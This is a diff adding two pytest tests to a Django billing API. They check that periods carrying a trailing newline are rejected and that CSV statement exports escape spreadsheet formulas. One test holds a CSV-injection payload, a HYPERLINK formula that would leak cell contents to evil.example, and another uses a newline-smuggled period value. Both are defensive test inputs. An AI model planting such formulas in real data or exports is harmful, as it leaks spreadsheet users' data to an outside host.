@@ -11,6 +11,7 @@ from decimal import Decimal
 import pytest
 from django.utils import timezone
 
+from apps.billing.models import Statement
 from apps.core.models import AuditEvent
 from apps.core.money import round_cents
 from apps.ledger.models import Run
@@ -217,3 +218,25 @@ def test_only_admin_keys_close_and_bad_periods_are_400(api_client, billing_key, 
     answer = close(api_client, admin_key, "acme", "2026-00")
     assert answer.status_code == 400 and answer.json()["error"]["field"] == "period"
     assert api_client.post(url("acme", "2026-01", "/close"), [1], format="json", **bearer(admin_key)).status_code == 400
+
+
+@pytest.mark.parametrize(("method", "suffix"), [("get", ".csv"), ("get", "/?format=csv"), ("get", "/"), ("post", "/close")])
+def test_a_period_with_a_trailing_newline_is_a_400_naming_period(api_client, admin_key, tenant, ledger, method, suffix):
+    # `$` matches before a final newline; before the fix the CSV routes put it in a header (500) and close closed January.
+    answer = getattr(api_client, method)(url("acme", "2026-01%0A", suffix), **bearer(admin_key))
+    assert answer.status_code == 400 and answer.json()["error"]["field"] == "period"
+    assert not Statement.objects.for_tenant(tenant).exists()
+
+
+def test_statement_csv_cells_from_ingest_are_escaped_as_text_and_closing_freezes_the_escaped_cells(
+    api_client, admin_key, billing_key, tenant
+):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"gpt-5")'
+    response(tenant, at(2026, 1, 5), model=formula)
+    live = api_client.get(url("acme", "2026-01", ".csv"), **bearer(billing_key))
+    [row] = [row for row in csv.DictReader(io.StringIO(live.content.decode())) if row["type"] == "model"]
+    assert row["model"] == "'" + formula and row["description"] == "'" + formula
+    assert get_json(api_client, billing_key, "acme", "2026-01")["lines"][0]["model"] == formula  # JSON is no spreadsheet
+    assert close(api_client, admin_key, "acme", "2026-01", allow_unpriced=True).status_code == 200
+    frozen = csv.DictReader(io.StringIO(Statement.objects.for_tenant(tenant).get().frozen_csv))
+    assert [row for row in frozen if row["type"] == "model"] == [row]
